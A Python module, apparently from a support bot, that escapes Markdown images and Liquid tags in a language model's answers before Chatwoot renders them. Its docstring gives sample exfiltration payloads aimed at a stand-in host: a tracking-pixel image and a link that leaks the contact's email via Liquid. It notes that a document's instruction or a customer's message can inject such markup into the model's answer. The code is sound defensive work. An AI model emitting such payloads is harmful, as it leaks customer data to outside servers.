"""An answer's Markdown made safe for Chatwoot, which renders it (markdown-it, as the agent
dashboard and the customer's widget show messages): its formatting stays, its images do not
load. An image in the model's answer (`![logo](https://evil.example/px.png?c=5)`, repeated
from a customer's message or a document) would load from that server in the agent's browser
and the customer's, saying who reads the conversation and when; written `\\![logo](...)` it
shows "!" and a link the reader may follow or not, as on Telegram (adapters/telegram:
an image shows as its text, an http(s) link stays a link).

Only `![` outside code blocks is escaped: in a fenced or indented code block a backslash would
show. A code span (`` `![x](y)` ``) in an answer that also holds a real image shows the
backslash; if anything still parses as an image, the whole answer is sent as literal text.

Chatwoot also renders Liquid in every outgoing message it creates (its Message model's
Liquidable concern): `{{ contact.email }}`, `{{ contact.phone_number }}` in an answer (a
document's instruction, a customer's message repeated) became the contact's data, in a
link's address too (`https://evil.example/?e={{contact.email}}`: sent there on a click, or at
once by a channel that previews links), and a `{% for %}` loop ran on Chatwoot's server.
`without_liquid` puts a zero-width space between the braces of every `{{` and `{%`, code
included (Chatwoot's own exemption of code, text between two backticks, is not Markdown's):
it reads the same and Liquid finds no tag.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.handoff.types import escape_markdown

_PARSER = MarkdownIt("js-default", {"html": False})  # as Chatwoot's dashboard parses
# "![" whose "!" is not already escaped (preceded by an even number of backslashes).
_IMAGE_START = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
# Where Liquid's lexer starts a tag or an output: "{%" and "{{" (their "-" forms too).
_LIQUID_START = re.compile(r"\{(?=[{%])")
_ZWSP = "\u200b"


def without_images(text: str) -> str:
    """`text` with every image made a link, the rest of its Markdown as written."""
    tokens = _PARSER.parse(text)
    if not _has_image(tokens):
        return text
    code_lines = {
        line
        for token in tokens
        if token.type in ("fence", "code_block") and token.map is not None
        for line in range(*token.map)
    }
    lines = text.splitlines(keepends=True)
    escaped = "".join(
        line if n in code_lines else _IMAGE_START.sub(r"\1\\![", line)
        for n, line in enumerate(lines)
    )
    if _has_image(_PARSER.parse(escaped)):  # not expected: nothing of it may load, then
        return "\n".join(escape_markdown(line) for line in text.split("\n"))
    return escaped


def without_liquid(text: str) -> str:
    """`text` with no Liquid tag or output for Chatwoot to render (see the module)."""
    return _LIQUID_START.sub("{" + _ZWSP, text)


def _has_image(tokens: list[Token]) -> bool:
    return any(
        child.type == "image"
        for token in tokens
        if token.type == "inline"
        for child in token.children or ()
    )
